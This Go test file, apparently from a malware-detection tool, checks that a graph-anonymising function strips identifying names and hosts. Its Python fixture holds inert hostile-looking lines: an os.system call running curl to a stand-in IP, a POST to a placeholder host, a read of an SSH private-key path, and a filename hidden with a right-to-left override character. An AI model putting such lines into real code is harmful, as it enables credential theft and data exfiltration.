package facts_test

import (
	"errors"
	"testing"
	"testing/fstest"

	"github.com/stretchr/testify/require"

	"github.com/malguard/malguard/datasets"
	"github.com/malguard/malguard/datasets/facts"
	"github.com/malguard/malguard/features"
	"github.com/malguard/malguard/graph"
)

// secretive is an inert package with words in every place where an author can put
// them; each has "secret" in it, in hexadecimal or letters.
const secretive = `import os, requests as secret_alias
from secretlib_ünicode import call
SECRET = "http://secret.example.com:8080/secret?q=secret"
class SecretClass:
    def secret_method(self, secret_parameter):
        os.system("secretprogram --secret; curl http://192.0.2.7/secret")
        secret_alias.post(SECRET, data="secret", headers={"secret": "secret"})
def secret_function():
    call("secret")
    open("/home/secret/.ssh/id_rsa_secret")
    eval("secret_name('" + "secret" + "')")
    SecretClass().secret_method(secret_parameter="secret")
    return lambda secret_argument: secret_function()
`

// TestNoText: neither constants nor hosts nor names that only this package has
// survive, wherever they stood.
func TestNoText(t *testing.T) {
	fsys := fstest.MapFS{"secretly \u202e.py": {Data: []byte(secretive)}, "setup.py": {Data: []byte("import os\nos.getenv('secret')\n(\n")}}
	g := build(t, fsys)
	require.Contains(t, asJSON(t, g), "secret.example.com")
	s := asJSON(t, facts.Strip(g))
	for _, word := range []string{"http:", "example.com", "secretprogram", "SecretClass", "secret_f", "secret_m", "192.0.2", "id_rsa_", "\u202e", "ünicode", "secretly"} {
		require.NotContains(t, s, word)
	}
	for _, word := range []string{"os.system", "requests.post", `"curl"`, `"other"`, `"web"`, `"ssh"`, "setup.py", `"~`, `"#`} {
		require.Contains(t, s, word)
	}
}

// TestNames: names from outside are plain, and the package's own are numbers.
func TestNames(t *testing.T) {
	var b graph.Builder
	b.Node(graph.Node{Name: "caller", Kind: graph.KindFunction})
	for _, name := range []string{"os.system", "<**PyStr**>.join", "#0", "os.system('x')"} {
		b.Node(graph.Node{Name: name, Kind: graph.KindExternal})
	}
	var got []string
	for _, n := range facts.Strip(b.Graph()).Nodes() {
		got = append(got, n.Name)
	}
	require.Equal(t, []string{"#0", "os.system", "<**PyStr**>.join", graph.PlainName("#0"), graph.PlainName("os.system('x')")}, got)
	require.Equal(t, "~", got[3][:1])
}

// TestStripOnce: a stripped graph is left as it is, and keeps what a graph is.
func TestStripOnce(t *testing.T) {
	list := trees(t)
	list["hostile"] = fstest.MapFS{"secretly \u202e.py": {Data: []byte(secretive)}, "b.py": {Data: []byte("def (:\n  f(g(h(1)), g(2))\n")}}
	for name, fsys := range list {
		g := build(t, fsys)
		once := facts.Strip(g)
		require.Equal(t, asJSON(t, once), asJSON(t, facts.Strip(once)), name)
		require.Equal(t, []int{g.NumNodes(), g.NumEdges(), len(g.Files()), len(g.Roots())}, []int{once.NumNodes(), once.NumEdges(), len(once.Files()), len(once.Roots())}, name)
		require.LessOrEqual(t, once.NumSites(), g.NumSites())
	}
}

// TestErrorsAreCounted: what decides whether a file counts as read is kept.
func TestErrorsAreCounted(t *testing.T) {
	var b graph.Builder
	broken := make([]error, 7)
	for i := range broken {
		broken[i] = errors.New("secret")
	}
	b.File(graph.File{Path: "a.py", Calls: 3, Errors: broken})
	b.File(graph.File{Path: "b.py", Calls: 9, Errors: broken})
	b.Warn(errors.New("secret"))
	g := facts.Strip(b.Graph())
	require.Len(t, g.File(1).Errors, 4, "more than calls")
	require.Len(t, g.File(2).Errors, 7)
	require.Len(t, g.Warnings(), 1)
	require.NotContains(t, asJSON(t, g), "secret")
}

// TestProfiles: every signal of every scope is that of the live graph, to the bit, for
// which callers alone have other names.
func TestProfiles(t *testing.T) {
	var signals []features.Signal
	for _, view := range features.Views() {
		for _, m := range features.Measures() {
			signals = append(signals, features.Signal{Measure: m.Name, View: view})
		}
	}
	for name, fsys := range trees(t) {
		live := build(t, fsys)
		r := &facts.Record{ID: name, Label: datasets.Benign}
		r.SetGraph(live)
		for _, scope := range []features.Scope{features.ScopeFile, features.ScopeEntry, features.ScopePackage} {
			opt := features.Options{Scope: scope, Signals: signals}
			want, err := features.Profiles(t.Context(), live, opt)
			require.NoError(t, err)
			got, err := features.Profiles(t.Context(), read(t, r), opt)
			require.NoError(t, err)
			require.Equal(t, anonymous(want), anonymous(got), name)
		}
	}
}

func anonymous(list []features.Profile) []features.Profile {
	for _, p := range list {
		for _, u := range p.Uses {
			for i := range u.Sites {
				u.Sites[i].Caller = ""
			}
		}
	}
	return list
}
